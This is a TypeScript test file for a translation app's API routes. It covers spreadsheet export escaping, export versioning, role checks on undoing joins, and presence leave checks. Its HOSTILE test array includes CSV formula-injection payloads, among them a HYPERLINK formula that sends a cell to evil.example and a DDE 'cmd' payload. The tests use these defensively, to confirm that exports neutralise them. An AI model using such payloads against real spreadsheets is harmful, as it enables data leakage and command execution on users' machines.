/**
 * Issue 13 §5 (content), through the route handlers as the roles that reach them: spreadsheet
 * exports neutralise formula cells (and read them back exactly), a download changes nothing while
 * the explicit export step freezes a version only when the document changed, a translator's undo
 * of a join cannot bring back approvals, and leaving a document checks the project.
 */
import JSZip from "jszip";
import { beforeAll, describe, expect, it, vi } from "vitest";
import type { SessionUser } from "@/lib/auth/session";
import { jsonRequest } from "./requests";

let currentUser: SessionUser | null = null;
vi.mock("@/lib/auth/session", () => ({ getSessionUser: async () => currentUser }));
vi.mock("next/cache", () => ({ revalidatePath: () => undefined }));

const { prisma } = await import("@/lib/db");
const { importText } = await import("@/lib/documents/import-document");
const { readUpload } = await import("@/lib/exchange/read-upload");
const { glossaryFromCsv } = await import("@/lib/glossary/glossary-files");
const exportRoute = await import("@/app/api/documents/[documentId]/export/route");
const glossaryExportRoute = await import("@/app/api/projects/[projectId]/glossary/export/route");
const restructureRoute = await import("@/app/api/segments/[segmentId]/restructure/route");
const presenceRoute = await import("@/app/api/documents/[documentId]/presence/route");

type Persona = "owner" | "translator" | "viewer" | "outsider";
const users = {} as Record<Persona, SessionUser>;
let projectId: string;
let documentId: string;
const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "'=already quoted", "'plain apostrophe"];

beforeAll(async () => {
  projectId = (await prisma.project.create({ data: { name: "Content" } })).id;
  for (const persona of ["owner", "translator", "viewer", "outsider"] as const) {
    const user = await prisma.user.create({ data: { email: `${persona}@content.example`, name: persona, passwordHash: "x" } });
    users[persona] = { id: user.id, email: user.email, name: user.name, isAdmin: false };
    if (persona !== "outsider") await prisma.membership.create({ data: { projectId, userId: user.id, role: persona } });
  }
  const text = ["标题", ...HOSTILE.map((_, i) => `第${i + 1}段。`)].join("\n\n");
  documentId = (await importText(prisma, { projectId, text, acceptedJoins: [], origin: "test", actorId: null })).document.id;
  const segments = await prisma.segment.findMany({ where: { documentId }, orderBy: { position: "asc" } });
  for (const [i, target] of HOSTILE.entries()) await prisma.segment.update({ where: { id: segments[i + 1]!.id }, data: { target, status: "translated" } });
  await prisma.comment.create({ data: { segmentId: segments[1]!.id, documentId, authorId: users.owner.id, body: "=1+1 looks odd" } });
  for (const target of HOSTILE) await prisma.glossaryTerm.create({ data: { projectId, source: "段", target, note: "-note", forbidden: false } });
});

const docParams = () => ({ params: Promise.resolve({ documentId }) });
const download = (query: string) => exportRoute.GET(new Request(`http://test/api/documents/${documentId}/export?${query}`), docParams());
const record = (body: object) => exportRoute.POST(jsonRequest(`http://test/api/documents/${documentId}/export`, body), docParams());
const counts = async () => ({ versions: await prisma.documentVersion.count({ where: { documentId } }), events: await prisma.activityEvent.count({ where: { documentId } }) });

describe("spreadsheet exports neutralise formulas", () => {
  it("document CSV: every cell a spreadsheet would run starts with an apostrophe, and reads back exactly", async () => {
    currentUser = users.owner;
    const csv = await (await download("format=csv&comments=1")).text();
    for (const cell of ['"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"', `"'+cmd|' /C calc'!A0"`, `"'-2+3"`, `"'@SUM(1,1)"`, `"'\t=1+1"`, `"''=already quoted"`, `"'plain apostrophe"`]) {
      expect(csv).toContain(cell);
    }
    expect(csv).not.toMatch(/(^|,)"[=+\-@]/m);
    const read = await readUpload("back.csv", Buffer.from(csv));
    expect(read.kind === "bilingual" && read.units.slice(1).map((u) => u.target)).toEqual(HOSTILE);
  });

  it("glossary CSV: the same, and importing it back gives the same terms", async () => {
    currentUser = users.viewer;
    const csv = await (await glossaryExportRoute.GET(new Request("http://test/x?format=csv"), { params: Promise.resolve({ projectId }) })).text();
    expect(csv).toContain(`'=HYPERLINK(`);
    expect(csv).toContain(`'-note`);
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
    // (Terms are stored trimmed, so the tab-led one comes back as "=1+1".)
    const sorted = (rows: string[][]) => rows.map((r) => r.join("|")).sort();
    expect(sorted(glossaryFromCsv(csv).map((r) => [r.target, r.note]))).toEqual(sorted(HOSTILE.map((t) => [t.trim(), "-note"])));
  });

  it("XLSX: the text is a text cell, never a formula", async () => {
    currentUser = users.owner;
    const xlsx = Buffer.from(await (await download("format=xlsx")).arrayBuffer());
    const sheet = await (await JSZip.loadAsync(xlsx)).file("xl/worksheets/sheet1.xml")!.async("string");
    expect(sheet).not.toContain("<f>");
  });
});

describe("no GET changes anything; the export step versions only what changed", () => {
  it("downloads (GET) freeze no version and log nothing, whatever the format", async () => {
    currentUser = users.owner;
    const before = await counts();
    for (const format of ["txt", "csv", "xlsx", "docx-review", "xliff-1.2"]) expect((await download(`format=${format}`)).status).toBe(200);
    expect(await counts()).toEqual(before);
  });

  it("the export step (POST) freezes a version once; exporting again unchanged adds none; after an edit it freezes again", async () => {
    currentUser = users.owner;
    const before = await counts();
    const first = (await (await record({ format: "csv", scope: "all", comments: true })).json()) as { version: { versionId: string; label: string; created: boolean }; download: string };
    expect(first.version).toMatchObject({ created: true, label: expect.stringMatching(/^Export CSV for Excel, /) });
    const again = (await (await record({ format: "xliff-1.2" })).json()) as typeof first;
    expect(again.version).toEqual({ ...first.version, created: false });
    expect(await counts()).toEqual({ versions: before.versions + 1, events: before.events + 2 });
    // The download named by the answer carries that version's label and changes nothing.
    const file = await (await exportRoute.GET(new Request(`http://test${again.download}`), docParams())).text();
    expect(file).toContain(first.version.label);
    const segment = await prisma.segment.findFirstOrThrow({ where: { documentId, position: 1 } });
    await prisma.segment.update({ where: { id: segment.id }, data: { target: "Changed since." } });
    expect(((await (await record({ format: "csv" })).json()) as typeof first).version.created).toBe(true);
    expect((await counts()).versions).toBe(before.versions + 2);
  });

  it("the export step is for owners, like the download", async () => {
    for (const [persona, status] of [["translator", 403], ["viewer", 403], ["outsider", 404]] as const) {
      currentUser = users[persona];
      const before = await counts();
      expect((await record({ format: "csv" })).status).toBe(status);
      expect((await download("format=csv")).status).toBe(status);
      expect(await counts()).toEqual(before);
    }
  });
});

describe("undoing a join gives back statuses only within the actor's rights", () => {
  async function joinApprovedPair() {
    const doc = (await importText(prisma, { projectId, text: "甲段。\n\n乙段。\n\n丙段。", acceptedJoins: [], origin: "test", actorId: null })).document.id;
    const [a, b] = await prisma.segment.findMany({ where: { documentId: doc }, orderBy: { position: "asc" } });
    for (const [s, target] of [[a!, "A."], [b!, "B."]] as const) await prisma.segment.update({ where: { id: s.id }, data: { target, status: "approved" } });
    currentUser = users.owner;
    const join = await restructureRoute.POST(jsonRequest("http://test", { op: "join" }), { params: Promise.resolve({ segmentId: a!.id }) });
    expect(join.status).toBe(200);
    return [a!.id, b!.id] as const;
  }
  const undo = (segmentId: string) => restructureRoute.POST(jsonRequest("http://test", { op: "undo" }), { params: Promise.resolve({ segmentId }) });
  const statuses = (ids: readonly string[]) => Promise.all(ids.map(async (id) => (await prisma.segment.findUniqueOrThrow({ where: { id } })).status));

  it("a translator's undo of the owner's join of two approved segments leaves them translated, not approved", async () => {
    const ids = await joinApprovedPair();
    currentUser = users.translator;
    expect((await undo(ids[0])).status).toBe(200);
    expect(await statuses(ids)).toEqual(["translated", "translated"]);
    const texts = await Promise.all(ids.map(async (id) => (await prisma.segment.findUniqueOrThrow({ where: { id } })).target));
    expect(texts).toEqual(["A.", "B."]);
  });

  it("the owner's own undo restores the approvals", async () => {
    const ids = await joinApprovedPair();
    expect((await undo(ids[0])).status).toBe(200);
    expect(await statuses(ids)).toEqual(["approved", "approved"]);
  });
});

describe("leaving a document (DELETE presence) checks the project", () => {
  it("outsiders get 404 and signed-out callers 401, and nobody's presence is touched; members may leave", async () => {
    currentUser = users.viewer;
    expect((await presenceRoute.POST(jsonRequest("http://test", { segmentId: null }), docParams())).status).toBe(200);
    const leave = () => presenceRoute.DELETE(jsonRequest("http://test", undefined, "DELETE"), docParams());
    for (const [persona, status] of [["outsider", 404], [null, 401]] as const) {
      currentUser = persona ? users[persona] : null;
      expect((await leave()).status).toBe(status);
    }
    expect(await prisma.presence.count({ where: { documentId } })).toBe(1);
    currentUser = users.viewer;
    expect((await leave()).status).toBe(204);
    expect(await prisma.presence.count({ where: { documentId } })).toBe(0);
  });
});
